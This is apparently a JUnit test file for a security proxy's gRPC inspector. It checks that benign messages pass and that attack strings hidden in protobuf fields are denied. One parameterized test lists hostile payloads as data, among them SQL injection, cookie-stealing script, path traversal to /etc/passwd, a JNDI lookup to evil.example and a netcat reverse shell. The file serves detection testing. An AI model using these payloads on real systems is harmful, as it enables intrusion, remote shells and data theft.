package io.bulwark.proxy.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import io.bulwark.policy.Mode;
import io.bulwark.proxy.event.SecurityEvent;
import io.bulwark.proxy.event.Verdict;
import io.bulwark.proxy.protocol.Coding;
import io.bulwark.proxy.protocol.FlowInfo;
import io.bulwark.proxy.protocol.Media;
import io.bulwark.proxy.protocol.Ruling;
import io.bulwark.proxy.stream.Direction;
import io.bulwark.proxy.testing.Proto;
import io.bulwark.signatures.Field;
import io.bulwark.signatures.Signature;
import io.bulwark.signatures.catalogue.CompiledCatalogue;
import io.bulwark.signatures.match.Matcher;
import io.bulwark.signatures.match.hyperscan.DatabaseSource;
import io.bulwark.signatures.match.hyperscan.HyperscanMatcher;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Base64;
import java.util.EnumSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the shipped signatures make of messages. */
class GrpcCatalogueTest {
    private static final Matcher MATCHER = matcher();
    private static final Set<Field> OF_DATABASES = EnumSet.of(
            Field.REDIS_ARG,
            Field.REDIS_REPLY,
            Field.MYSQL_QUERY,
            Field.MYSQL_PARAM,
            Field.MYSQL_SHAPE,
            Field.MYSQL_RESULT,
            Field.LOGIN);
    private static final List<String> PROSE = List.of(
            "Please leave the parcel at the back door, and ring twice.",
            "The western union select committee meets on Monday from 9 to 5.",
            "O'Reilly & Sons; 50% off -- today only!",
            "C:\\Users\\anna\\Documents\\report.docx",
            "/var/lib/orders/2024/11/23/4711.json",
            "https://shop.example/items?id=1&sort=price+desc#top",
            "{\"note\":\"to be, or not to be\",\"qty\":3,\"price\":12.5}",
            "SELECT is a word, and so is DROP; neither is a table.",
            "<b>Bold</b> and <i>italic</i> text, 1 < 2 && 3 > 2",
            "Größe: 42, Farbe: grün, 100 % Baumwolle \uD83D\uDE00",
            "grpc.health.v1.Health/Check",
            "user.name+tag@mail.example.org",
            "Bearer of good news: order=1; status=ok; next='2024-12-01'",
            "+49 30 901820, 10.0.0.1:8080, fe80::1%eth0",
            "kubectl get pods -n shop | grep orders",
            "2024-11-23T22:36:00.123456+01:00");

    @AfterAll
    static void close() {
        MATCHER.close();
    }

    private static Matcher matcher() {
        try {
            return matcher(CompiledCatalogue.fromClassPath());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Matcher matcher(List<Signature> signatures) {
        return switch (HyperscanMatcher.make(signatures, DatabaseSource.CLASS_PATH)) {
            case HyperscanMatcher.Made.Ready(var matcher) -> matcher;
            case HyperscanMatcher.Made.Refused(var reason) -> throw new AssertionError(reason);
        };
    }

    /** A message as services send it: identifiers, numbers, times, prose, tokens, digests, and more of them inside. */
    private static Proto benign(Random random, int depth) {
        var message = Proto.message();
        for (var number = 1; number <= 3 + random.nextInt(9); number++) {
            switch (random.nextInt(depth > 3 ? 8 : 10)) {
                case 0 -> message.string(number, new UUID(random.nextLong(), random.nextLong()).toString());
                case 1 -> message.varint(number, random.nextLong() >>> random.nextInt(64));
                case 2 -> message.fixed64(number, random.nextLong()).fixed32(number, random.nextInt());
                case 3 -> message.string(number, PROSE.get(random.nextInt(PROSE.size())));
                case 4 -> message.bytes(number, random(random, random.nextInt(300)));
                case 5 ->
                    message.string(number, Base64.getEncoder().encodeToString(random(random, random.nextInt(2_000))));
                case 6 ->
                    message.packed(
                            number,
                            random.longs(random.nextInt(50))
                                    .map(value -> value & 0xFFFF)
                                    .toArray());
                case 7 -> message.string(number, Long.toString(1_700_000_000_000L + random.nextInt()));
                default -> message.message(number, benign(random, depth + 1));
            }
        }
        return message;
    }

    private static byte[] random(Random random, int length) {
        var bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void benignMessagesStayClean(boolean request) {
        // Given
        var random = new Random(4711);
        try (var bench = Bench.with(MATCHER, Bench.policy(Mode.ENFORCE))) {
            bench.judging(FlowInfo.Side.INGRESS, request ? Direction.TO_SERVER : Direction.TO_CLIENT);
            var field = request ? Field.HTTP_BODY : Field.HTTP_RESPONSE_BODY;
            for (var count = 0; count < 2_000; count++) {
                var content = benign(random, 0).framed();
                // When
                bench.inspector.begin(Bench.GET);
                bench.inspector.open(field, Coding.IDENTITY, Media.GRPC);
                bench.chunk(content, 0, content.length);
                bench.inspector.close();
                bench.inspector.decide(Bench.GET);
                bench.inspector.end();
            }
            // Then: a guess may be told, and denies nothing
            assertThat(bench.events())
                    .hasSizeLessThan(3)
                    .filteredOn(event -> event.verdict() != Verdict.REPORTED)
                    .extracting(SecurityEvent::rule, SecurityEvent::detail, SecurityEvent::snippet)
                    .isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1' UNION SELECT password FROM users--",
                "admin' OR 1=1--",
                "<script>alert(document.cookie)</script>",
                "../../../../etc/passwd",
                "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "${jndi:ldap://evil.example/a}",
                "nc 10.0.0.9 9001 -e /bin/sh",
                "4111 1111 1111 1111",
                "\u00AC\u00ED\0\u0005sr\0.org.apache.commons.collections.functors.InvokerTransformer"
            })
    void attacksAreFoundWhereverTheyStand(String attack) {
        // Given
        var bytes = Bench.latin1(attack);
        var alone = Proto.message().bytes(1, bytes);
        var inside = Proto.message()
                .varint(1, 4711)
                .message(2, Proto.message().varint(1, 1).message(7, alone));
        var inAGroup = Proto.message().fixed32(1, -1).group(2, alone);
        var among = Proto.message().string(1, "before").bytes(2, bytes).string(3, "behind");
        for (var message : List.of(alone, inside, inAGroup, among)) {
            try (var bench = Bench.with(MATCHER, Bench.policy(Mode.ENFORCE))) {
                // When
                var ruling = bench.body(Coding.IDENTITY, Media.GRPC, message.framed(), false);
                // Then
                assertThat(ruling).isInstanceOf(Ruling.Deny.class);
                assertThat(bench.events()).extracting(SecurityEvent::field).containsOnly("grpc.string");
            }
        }
    }

    @ParameterizedTest
    @CsvSource({"'x''#\n', false", "'admin'' OR 1=1--', true", "'\u00AC\u00ED\0\u0005sr\0', true"})
    void inBinaryValuesOnlyRunsOfTextAndBinaryPatternsCount(String inside, boolean denied) {
        // Given
        var random = new Random(1);
        var noise = new byte[40];
        for (var index = 0; index < noise.length; index++) {
            noise[index] = (byte) (0x80 + random.nextInt(0x20));
        }
        var value = Proto.join(noise, Bench.latin1(inside.translateEscapes()), noise);
        try (var bench = Bench.with(MATCHER, Bench.policy(Mode.ENFORCE))) {
            // When
            var ruling = bench.body(
                    Coding.IDENTITY, Media.GRPC, Proto.message().bytes(1, value).framed(), false);
            // Then
            assertThat(ruling instanceof Ruling.Deny).isEqualTo(denied);
        }
    }

    @Test
    void digestsAndKeysStayClean() {
        // Given
        var random = new Random(7);
        try (var bench = Bench.with(MATCHER, Bench.policy(Mode.ENFORCE))) {
            for (var count = 0; count < 100; count++) {
                var message = Proto.message();
                for (var number = 0; number < 4_000; number++) {
                    message.bytes(1, random(random, 16));
                }
                // When
                bench.body(Coding.IDENTITY, Media.GRPC, message.framed(), false);
                bench.inspector.end();
            }
            // Then
            assertThat(bench.events()).isEmpty();
        }
    }

    @Test
    void theFieldsOfStringsShareTheDatabasesOfBodies() {
        // When
        var signatures = MATCHER.signatures();
        // Then
        assertThat(signatures).allSatisfy(signature -> {
            assertThat(signature.fields().contains(Field.GRPC_STRING))
                    .isEqualTo(signature.fields().contains(Field.HTTP_BODY));
            assertThat(signature.fields().contains(Field.GRPC_RESPONSE_STRING))
                    .isEqualTo(signature.fields().contains(Field.HTTP_RESPONSE_BODY));
        });
        try (var ofHttp =
                matcher(signatures.stream().flatMap(GrpcCatalogueTest::ofHttp).toList())) {
            assertThat(ofHttp.nativeBytes()).isLessThan(4_000_000);
        }
    }

    @Test
    void theFieldsOfDatabasesTakeLittleBesides() {
        assertThat(MATCHER.nativeBytes()).isLessThan(5_000_000);
    }

    /** The signature as it would be if there were only HTTP to read; its samples are left out. */
    private static Stream<Signature> ofHttp(Signature signature) {
        var fields = signature.fields().stream()
                .filter(field -> !OF_DATABASES.contains(field))
                .collect(Collectors.toSet());
        if (fields.isEmpty()) {
            return Stream.empty();
        }
        return Stream.of(new Signature(
                signature.id(),
                signature.group(),
                signature.title(),
                signature.severity(),
                signature.confidence(),
                signature.tactic(),
                fields,
                signature.headers(),
                signature.transforms(),
                signature.pattern(),
                signature.validator(),
                signature.threshold(),
                List.of(),
                List.of()));
    }
}
